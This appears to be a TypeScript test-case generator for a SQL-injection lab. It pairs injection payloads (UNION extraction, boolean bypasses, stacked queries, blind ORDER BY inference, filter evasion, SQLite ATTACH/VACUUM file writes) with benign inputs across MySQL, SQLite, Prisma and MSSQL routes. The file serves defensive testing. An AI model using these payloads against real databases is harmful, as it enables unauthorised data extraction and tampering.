    "x' UNION%0aSELECT".replace('%0a', '\n') + ' entry,entry FROM vault #',
    "x' UNION SELECT GROUP_CONCAT(entry), 1 FROM vault #",
    "x' UNION SELECT UNHEX(HEX(entry)), 2 FROM vault #",
    "x' UNION SELECT * FROM (SELECT entry FROM vault) a JOIN (SELECT entry FROM vault) b #",
    'x\' UNION SELECT `entry`, "a" FROM `vault` #',
    "x' UNION VALUES ((SELECT entry FROM vault), 1) #",
    "' OR 1 GROUP BY pin #",
    "' OR 1=1 PROCEDURE ANALYSE() #".replace(' PROCEDURE ANALYSE()', ''),
    "' OR name LIKE _utf8mb4'root' #",
    "' OR name = _binary'root' #",
    "' OR (name,1)=('root',1) #",
    "' OR hidden=b'1' #",
    "' OR hidden=x'01' #",
    "' OR hidden<=>1 #",
    "' OR hidden MOD 2 #",
    "' OR 1e0 #",
    "' OR .1 #",
    "' OR true-- ",
    "' OR pin COLLATE utf8mb4_bin != '' #",
    "' OR (SELECT 1 FROM DUAL) #",
    "' AND 0 UNION SELECT entry, entry FROM vault #",
    "'; SELECT entry FROM vault; #",
    "' OR EXTRACTVALUE(1, 1) IS NULL OR '1",
    "' OR NULLIF(1,2) #",
    "' OR STRCMP(1,2) #",
    "' OR ROW(1,1)=ROW(1,1) #",
    "' OR 'a' 'b'='ab' #",
    "' OR DATE'2020-01-01'>0 #",
  ];
  every(one, ['find'], 'name', dialect, rows);
  const quoted = dialect.filter((value) => !value.startsWith("'; "));
  spread(
    one,
    ['executeText', 'driverFind', 'ansiText', 'procedure'].slice(0, 3),
    'name',
    quoted.filter((value) => !/\|\||"/.test(value)),
    rows,
  );
  for (const name of [
    '" OR 1=1 -- ',
    '" OR "1',
    '"||1#',
    '"="',
    'x" UNION SELECT entry, entry FROM vault #',
    "\" OR name='root' #",
    '"-"',
    '" OR ""="',
  ])
    attack('double', { name }, rows);
  for (const id of [
    ...numbersAnywhere.filter((value) => !value.endsWith('--')),
    '1||1',
    '1 || hidden',
    '1 XOR 1 XOR 1'.replace(' XOR 1', ''),
    'id',
    '1 OR 1#',
    '1&1 OR 1',
    '0 OR !0',
    '0=0 OR 1',
    '1 /*!OR*/ 1',
    '1/*!50000OR*/1',
    '0 || 1',
    '~id OR 1',
    '1 OR @a:=1',
    '0x31 OR 0x31',
    '1 && 1 || 1',
    '1;SELECT entry FROM vault',
    '0 UNION SELECT 0x61, entry FROM vault',
    '0 UNION DISTINCT SELECT entry, 1 FROM vault',
    '1e0UNION SELECT entry,entry FROM vault',
    '0.UNION SELECT entry,entry FROM vault',
    '\\NUNION SELECT entry,entry FROM vault',
    'CASE WHEN 1 THEN id END',
    'IF(1,id,0)',
    'ANY(SELECT id FROM members) OR 1',
    '3 OR hidden IS TRUE',
    'members.id',
    '(id)',
    '-(-id)',
    'id+0',
    'GREATEST(id,0)',
    'COALESCE(id)',
  ])
    attack('number', { id }, /^(?:id|CASE|IF|members|\(id\)|-\(|id\+0|GREATEST|COALESCE)/.test(id) ? twoRows : leaks);
  spread(
    one,
    ['numberEscaped', 'oldFind', 'knexRaw', 'sequelizeLiteral'],
    'id',
    [
      '1 OR 1=1',
      '0 UNION SELECT entry, entry FROM vault',
      '1 OR hidden=1',
      '0 OR name=0x726f6f74',
      '1 OR 1 LIKE 1',
      '0 OR id=3',
      '1 || 1',
      '1 OR char(49)=1',
    ].filter((value) => !value.includes('UNION')),
  );
  attack('numberEscaped', { id: '0 UNION SELECT entry, entry FROM vault' });
  attack('oldFind', { id: '0 UNION SELECT entry, 1 FROM vault #' });
  for (const sort of [
    "IF((SELECT substr(entry,1,1) FROM vault)='s',-id,id)",
    '(SELECT -id FROM vault)',
    "(CASE WHEN (SELECT count(*) FROM vault WHERE entry LIKE 's%') THEN -id ELSE id END)",
    'id*(SELECT -1 FROM vault)',
    "FIELD(name, (SELECT 'bob' FROM vault))",
    'IF(ASCII(SUBSTRING((SELECT entry FROM vault),1,1))>64,-id,id)',
  ])
    attack('order', { sort }, answer('[{"name":"O\'Brien"}'));
  for (const sort of [
    'id LIMIT 0 UNION SELECT entry FROM vault',
    'id; SELECT entry FROM vault',
    'id LIMIT 1; SELECT pin FROM members #',
  ])
    attack('order', { sort });
  attack('orderTick', { sort: 'id`; SELECT entry FROM vault #' });
  attack('orderTick', { sort: 'id`*(SELECT -1 FROM vault) #' }, answer('[{"name":"O\'Brien"}'));
  attack('handler', { sort: 'id', dir: ', IF(1, (SELECT 1 FROM vault), 0); SELECT entry FROM vault' });
  attack('limit', { limit: '0; SELECT entry FROM vault' });
  attack('limit', { limit: '1,1; SELECT pin FROM members' });
  attack('limit', { limit: '0 UNION SELECT entry FROM vault' }, answer('x'));
  attack('limit', { limit: '1 INTO @a; SELECT entry FROM vault #' });
  attack('group', { by: '(SELECT entry FROM vault)' });
  attack('group', { by: 'CONCAT(role, (SELECT entry FROM vault))' });
  attack('group', { by: 'pin AS k, 1 AS n FROM members UNION SELECT entry, 1 FROM vault #' }, answer('x'));
  attack('table', { table: 'books; SELECT entry FROM vault' });
  attack('table', { table: '(SELECT entry FROM vault) t WHERE 1=0 UNION SELECT entry FROM vault' });
  for (const q of ["%' OR '1", "x' OR 1 #", "%' || 1 #", "x%' UNION SELECT entry, entry FROM vault #"])
    attack('like', { q });
  attack('onlyQuotes', { name: "\\' OR 1=1 #" });
  attack('onlyQuotes', { name: "\\' UNION SELECT entry, entry FROM vault #" });
  attack('onlyQuotes', { name: "\\'||1#" });
  attack('two', { a: '\\', b: ' OR 1=1 #' });
  attack('two', { a: 'x\\', b: ' UNION SELECT entry, entry FROM vault #' });
  attack('two', { a: '\\', b: '||1#' });
  attack('spaceless', { name: "'||1#" });
  attack('spaceless', { name: "x'UNION(SELECT(entry),(entry)FROM(vault))#" });
  attack('spaceless', { name: "'/**/OR/**/1=1#" });
  attack('filtered', { name: "' oorr 1 #".replace('oorr', '||') });
  attack('filtered', { name: "x' UNIunionON SELselectECT entry, entry FROM vault #" });
  attack('filtered', { name: "'/**/OR/**/1#" });
  attack('match', { q: "x' IN BOOLEAN MODE) OR 1=1 #" });
  attack('match', { q: "x') OR (id=2) OR MATCH (words) AGAINST ('x" });
  attack('match', { q: "x') UNION SELECT 1, entry FROM vault #" });
  attack('json', { path: "title'), (SELECT entry FROM vault) #" }, answer('x'));
  attack('json', { path: "x') FROM docs UNION SELECT entry FROM vault #" });
  attack('jsonKey', { key: "x') IS NULL OR 1=1 #", value: 'x' });
  attack('jsonKey', { key: 'title', value: "x' OR JSON_VALUE(body, '$.title') = 'closed" });
  attack('jsonKey', { key: "title') = 'closed' OR JSON_VALUE(body, '$.title", value: 'x' });
  attack('interval', { days: '1 DAY) OR 1=1 #' });
  attack('interval', { days: '1 DAY) AND 1=0 UNION SELECT entry, entry FROM vault #' });
  attack('set', { value: "'; SELECT entry FROM vault; #" });
  attack('set', { value: "x', @y = (SELECT entry FROM vault); SELECT @y; #" });
  attack('procedure', { name: "x', (SELECT entry FROM vault), 1) #" }, answer('x'));
  attack('procedure', { name: "', 1, 0), (SELECT entry FROM vault) #" }, answer('x'));
  attack('procedure', { name: "x', 1, 0) UNION SELECT entry FROM vault #" });
  attack('insert', { words: "' || (SELECT entry FROM vault)) #".replace("' || ", "'), (1, 'me', ") });
  attack('insert', { words: "x'), (2, 'me', (SELECT entry FROM vault)) #" });
  attack('insert', { words: "x'), (2, 'me', CONCAT((SELECT entry FROM vault), '')) -- -" });
  attack('insert', { words: "' + (SELECT CONV(HEX(SUBSTR(entry,1,4)),16,10) FROM vault) + '" }, answer('1936024434'));
  // Objects and lists for a placeholder.
  for (const route of ['values', 'oldValues', 'knexLogin'])
    for (const pin of [{ pin: 1 }, { name: 1 }, { hidden: 1 }, { pin: '1' }]) attack(route, { name: 'root', pin });
  attack('values', { name: ['root', 1], pin: 'x' }, answer('x'));
  attack('values', { name: { name: 1 }, pin: { pin: 1 } });
  attack('ansiDouble', { column: 'name", (SELECT entry FROM vault) AS "x' });
  attack('ansiDouble', { column: 'name" FROM members UNION SELECT entry FROM vault #' });
  attack('ansiText', { name: "'||(SELECT 'ro')||'ot' OR 1 #" });
  attack('driverBatch', { table: 'books WHERE id=1 UNION SELECT entry FROM vault #' });
  attack('sequelizeQuery', { q: '" OR 1 #' });
  attack('sequelizeQuery', { q: 'x%" UNION SELECT entry, entry FROM vault #' });

  proseTo(
    one,
    [
      'safe',
      'safeExecute',
      'safeNamed',
      'safeEscape',
      'safeFormat',
      'safeIdentifier',
      'safeSlashes',
      'safeOld',
      'safeDriver',
      'safeKnex',
      'safeKnexBinding',
      'safeSequelize',
      'safeList',
      'safeRows',
      'safeSet',
      'safeStrict',
      'safeStrictDoubled',
      'safeAnsi',
      'safeMatch',
      'safeJson',
    ],
    2,
  );
  for (const q of dialect) benign('safeEscape', { q });
  for (const q of ['中文', '縗 縗', "中's", '\\中']) {
    benign('safeEscape', { q });
    benign('safeOld', { q });
  }
  for (const limit of ['1', '5', '10', 'x']) benign('safeLimit', { limit });
  for (const name of [
    'bob',
    "O''Brien",
    "O\\'Brien",
    'select',
    '#1',
    '-- x',
    '1=1',
    '"root"',
    '/* x */',
    '|| 1',
    'a && b',
    '!',
  ])
    for (const route of ['find', 'executeText', 'driverFind', 'like', 'spaceless', 'filtered'].slice(0, 6))
      benign(route, route === 'like' ? { q: name } : { name });
  for (const id of ['1', '2', '-1', '1.5', '0x01', '1e0', '1+1', '(1)', 'NULL', 'true', '~1', '!1', '5-4'])
    for (const route of ['number', 'oldFind', 'knexRaw', 'numberEscaped']) benign(route, { id });
  for (const sort of [
    'name',
    'id DESC',
    'name ASC, id',
    '`name` DESC',
    'members.name',
    '2',
    'LENGTH(name)',
    'FIELD(name, 1, 2)',
    'ISNULL(name), name',
  ].filter((value) => value !== '2'))
    benign('order', { sort });
  for (const sort of ['name', 'id', 'hidden']) benign('orderTick', { sort });
  for (const limit of ['1', '1,2', '2 OFFSET 1', '10']) benign('limit', { limit });
  for (const by of ['role', 'hidden', 'UPPER(role)', 'members.role', '`role`']) benign('group', { by });
  for (const table of ['books', '`books`', 'members m']) benign('table', { table });
  for (const [a, b] of [
    ['bob', 'user'],
    ["O'Brien", 'user'],
    ['C:\\\\', 'x'],
    ['#', '-- '],
  ] as const)
    benign('two', { a, b });
  for (const name of ["O'Brien", 'bob', "it's 'quoted'"]) benign('onlyQuotes', { name });
  for (const q of ['open', '+open -closed', 'open*', '"open words"', '(open closed)', '+open +(>a <b)', '~x'])
    benign('match', { q });
  for (const path of ['title', 'a.b', 'a[0]', '"a b"', '*', '**.x']) benign('json', { path });
  for (const [key, value] of [
    ['title', 'open'],
    ['a.b', 'x'],
    ['list[0]', '1'],
  ] as const)
    benign('jsonKey', { key, value });
  for (const days of ['1', '30', '-1', '1.5']) benign('interval', { days });
  for (const value of ['good', "it''s fine", 'a; b', '@x', ':=']) benign('set', { value });
  for (const words of ['hello', "it''s me", 'a), (b', '#', '(SELECT entry FROM vault)', '1, 2'])
    benign('insert', { words });
  for (const said of [
    { name: 'bob', pin: 'hunter2' },
    { name: "O'Brien", pin: 'pass' },
    { name: 'root', pin: '1' },
    { name: 'root', pin: "' OR 1=1 #" },
    { name: 'bob', pin: 5 },
    { name: 'bob', pin: true },
  ])
    for (const route of ['values', 'oldValues', 'driverValues', 'knexLogin']) benign(route, said);
  benign('identifierValue', { sort: 'name' });
  benign('identifierValue', { sort: 'na`me, (SELECT 1)' });
  benign('identifierColumn', { column: 'name' });
  for (const column of ['name', 'id']) benign('ansiDouble', { column });
  return one.cases;
}

export function embeddedCases(places: RangePlaces): RangeCase[] {
  const one = room('embedded', 'sql-injection', places, undefined);
  const { attack, benign } = one;
  const quoted = quotedAnywhere.filter((value) => !/U&|#$/.test(value));
  const sqlite = [
    "' OR 1 --",
    "' OR name GLOB 'r*' --",
    "' OR name IS 'root' --",
    "' OR name == 'root' --",
    "' OR hidden ISNULL OR hidden NOTNULL --",
    "' OR char(114,111,111,116)=name --",
    "' OR x'726f6f74'=CAST(name AS BLOB) --",
    "' OR iif(1,1,0) --",
    "' OR randomblob(0) IS NOT NULL --",
    "' OR hex(name)='726F6F74' --",
    "' OR `hidden` --",
    "' OR [hidden] --",
    "' OR instr(name,'oo') --",
    "' OR printf('%s',1) --",
    "' OR ~hidden+1 --",
    "' OR hidden<<1 --",
    "' OR rowid=3 --",
    "' OR name REGEXP 'x' OR 1 --".replace(" name REGEXP 'x' OR", ''),
    "' OR 1;",
    "' OR 1/*",
    "x' UNION SELECT name, sql FROM sqlite_master --",
  ];
  every(one, ['prepare'], 'name', [...quoted, ...sqlite.slice(0, -1)], rows);
  attack('prepare', { name: sqlite.at(-1)! }, answer('CREATE TABLE vault'));
  spread(
    one,
    ['iterate', 'wasmExec', 'wasmEach', 'libsqlExecute', 'libsqlBatch'],
    'name',
    [...quoted, ...sqlite.slice(0, -1)],
    rows,
  );
  spread(one, ['number', 'wasmPrepare', 'libsqlObject'], 'id', [
    ...numbersAnywhere,
    '1 OR hidden IS 1',
    '1 OR 1==1',
    'id',
    '1 OR rowid=3',
    '(1) OR 1',
    '1 or not 0',
    '0||1 OR 1',
  ]);
  spread(one, ['pglite', 'pgliteExec'], 'name', quoted, rows);
  spread(
    one,
    ['pgliteTransaction'],
    'id',
    numbersAnywhere.filter((value) => !/hidden$|EXISTS/.test(value)),
  );
  attack('get', { name: 'x" UNION SELECT entry, entry FROM vault --' });
  attack('get', { name: '" OR hidden=1 --' });
  attack('exec', { name: "x', ''); INSERT INTO notes SELECT 2, entry, '' FROM vault; --" });
  attack('exec', { name: "' || (SELECT entry FROM vault) || '" });
  attack('libsqlMultiple', { name: "x', ''); INSERT INTO notes SELECT 2, entry, '' FROM vault; --" });
  attack('libsqlMultiple', { name: "'||(SELECT entry FROM vault)||'" });
  attack('pgliteExec', { name: "x'; SELECT entry FROM vault; --" });
  attack(
    'attach',
    { file: `x'); ATTACH DATABASE '${places.folder}/evil-attach.db' AS evil; CREATE TABLE evil.t (a); --` },
    { kind: 'file', path: `${places.folder}/evil-attach.db` },
  );
  attack(
    'attach',
    { file: `x'); VACUUM INTO '${places.folder}/evil-vacuum.db'; --` },
    { kind: 'file', path: `${places.folder}/evil-vacuum.db` },
  );
  attack('pragma', { table: "x') UNION SELECT entry FROM vault --" });
  attack('pragma', { table: "books') UNION ALL SELECT pin FROM members WHERE ('1'='1" });
  attack('fts', { q: "x' UNION SELECT entry FROM vault --" });
  attack('fts', { q: "open' OR 1 UNION SELECT pin FROM members --" }, answer(places.secret));
  attack('bracket', { column: 'name], (SELECT entry FROM vault) AS [x' });
  attack('bracket', { column: 'name] FROM members UNION SELECT entry FROM vault --' });
  attack('glob', { q: "' OR name GLOB '" });
  attack('glob', { q: "x' UNION SELECT entry, entry FROM vault --" });
  attack('like', { q: "x' OR 1=1 --" });
  attack('like', { q: "%' ESCAPE '\\' OR name LIKE '%" });
  attack('slashes', { name: "' OR 1=1 --" });
  attack('slashes', { name: "x' UNION SELECT entry, entry FROM vault --" });
  attack(
    'order',
    { sort: "(CASE WHEN (SELECT substr(entry,1,1) FROM vault)='s' THEN -id ELSE id END)" },
    answer('[{"name":"O\'Brien"}'),
  );
  attack('order', { sort: 'id*(SELECT -1 FROM vault)' }, answer('[{"name":"O\'Brien"}'));
  attack('order', { sort: 'id LIMIT 0 UNION SELECT entry FROM vault' }, answer('x'));
  attack('collate', { collation: 'NOCASE, (SELECT -id FROM vault)' }, answer('bob'));
  attack('collate', { collation: 'BINARY LIMIT (SELECT count(*) FROM vault)' }, answer(`[{"name":"O'Brien"}]`));
  attack('jsonPath', { path: "a') UNION SELECT entry FROM vault --" });
  attack('jsonPath', { path: "a'), (SELECT entry FROM vault) AS x --" });

  proseTo(
    one,
    [
      'safe',
      'safeNamed',
      'safeQuoted',
      'safeIdentifier',
      'safeFts',
      'safeTag',
      'safeInsert',
      'safeLike',
      'safeWasm',
      'safeLibsql',
      'safePglite',
      'safePgliteTag',
    ],
    2,
  );
  for (const q of prose) benign('safeQuoted', { q });
  benign('safeAttach', { q: 'x' });
  for (const name of ['bob', "O''Brien", 'select', '1=1', '-- x', 'a; b', '[x]', '`', '/* x */', 'C:\\'])
    for (const route of ['prepare', 'wasmExec', 'libsqlExecute', 'pglite', 'exec', 'iterate']) benign(route, { name });
  for (const id of ['1', '-1', '1+1', '1.0', 'NULL', '(2)'])
    for (const route of ['number', 'wasmPrepare', 'libsqlObject', 'pgliteTransaction']) benign(route, { id });
  for (const q of [
    'open',
    'open OR book',
    'title : open',
    '"a book"',
    'bo*',
    'open NOT shut',
    'NEAR(a b, 5)',
    '{title body} : open',
  ])
    benign('fts', { q });
  for (const column of ['name', 'id', 'role']) benign('bracket', { column });
  for (const q of ['b', 'B', '[a-c]', '*', '?']) benign('glob', { q });
  for (const q of ['b', '\\%', '100\\%', '_', "o''b"]) benign('like', { q });
  for (const sort of ['name', 'id DESC', 'length(name)', 'name COLLATE NOCASE', '1', 'lower(name) ASC, id'])
    benign('order', { sort });
  for (const collation of ['NOCASE', 'BINARY', 'RTRIM DESC', 'nocase ASC']) benign('collate', { collation });
  for (const path of ['a', 'a.b', 'a[0]', '"a b"', 'a[#-1]']) benign('jsonPath', { path });
  for (const table of ['books', 'members']) benign('pragma', { table });
  for (const file of ['a.txt', "it''s.pdf", 'x (1).db', 'ATTACH DATABASE']) benign('attach', { file });
  return one.cases;
}

export function prismaCases(places: RangePlaces): RangeCase[] {
  const one = room('prisma', 'sql-injection', places, 'prisma');
  const { attack, benign } = one;
  for (const name of [
    "' OR 1=1 --",
    "x' UNION SELECT name FROM accounts_prisma --",
    "' OR touched > 4000 --",
    "' OR touched=4711 OR '1'='2",
    "'||'' OR true --",
  ])
    for (const route of ['raw', 'rawTag']) attack(route, { name });
  attack(
    'rawPart',
    { sort: '(CASE WHEN (SELECT max(touched) FROM accounts_prisma) > 4000 THEN ascii(name) ELSE -ascii(name) END)' },
    answer('[{"name":"O\'Brien"}'),
  );
  attack('rawPart', { sort: 'name LIMIT 0) UNION SELECT name FROM accounts_prisma --'.replace(')', '') }, answer('x'));
  for (const id of ['1 OR 1=1', '4711', '1 UNION SELECT name FROM accounts_prisma', '0 OR touched>4000', 'touched'])
    if (id !== '4711') attack('rawInterpolated', { id });

  proseTo(one, ['safe', 'safeContains', 'safeIn', 'safeRaw', 'safeUnsafe', 'safeSql'], 2);
  for (const name of ['bob', "O''Brien", 'select 1', '1=1', 'a -- b']) {
    benign('raw', { name });
    benign('rawTag', { name });
  }
  for (const name of ['bob', 'root', 'contains', '{"not":1}']) benign('find', { name });
  for (const touched of [5, 1, 0]) benign('login', { touched });
  for (const [op, value] of [
    ['gt', '0'],
    ['not', '5'],
    ['lte', '1'],
    ['drop', '1'],
  ] as const)
    benign('safeOperator', { op, value });
  for (const [sort, order] of [
    ['name', 'desc'],
    ['touched', 'asc'],
    ['x', 'y'],
  ] as const)
    benign('safeSort', { sort, order });
  for (const sort of ['name', 'name DESC', 'touched, name']) benign('rawPart', { sort });
  benign('where', { name: 'bob' });
  benign('where', { name: "O'Brien", touched: 1 });
  return one.cases;
}

export function mssqlCases(places: RangePlaces): RangeCase[] {
  const one = room('mssql', 'sql-injection', places, 'tds');
  const { attack, benign } = one;
  spread(
    one,
    ['find', 'batch'],
    'name',
    quotedAnywhere.filter((value) => !/vault|FROM members/.test(value)),
    rows,
  );
  spread(
    one,
    ['number'],
    'id',
    numbersAnywhere.filter((value) => !/vault|FROM members/.test(value)),
    answer('},{'),
  );
  attack('bracket', { column: 'name], [pin' }, answer('"pin"'));
  attack('bracket', { column: 'name], (SELECT 40+2) AS [x' }, answer('42'));
  // The stand-in answers in numbers alone: whatever the order, both rows come.
  attack('mixed', { name: 'x', sort: 'id*(SELECT -1)' }, answer('},{'));
  attack('order', { sort: '(SELECT -id)' }, answer('},{'));
  attack('order', { sort: 'CASE WHEN (SELECT 1)=1 THEN -id ELSE id END' }, answer('},{'));
  proseTo(one, ['safe', 'safeEcho', 'safeDoubled', 'safeBracket'], 2);
  for (const sort of ['name', 'id DESC', 'LEN(name)'.replace('LEN', 'length'), '[name]', '1'])
    benign('order', { sort });
  for (const name of ['bob', "O''Brien", '[x]', 'EXEC xp_cmdshell', '-- x', "N''x"]) benign('find', { name });
  for (const id of ['1', '-1', '1+1']) benign('number', { id });
  for (const column of ['name', 'id']) benign('bracket', { column });
  return one.cases;
}
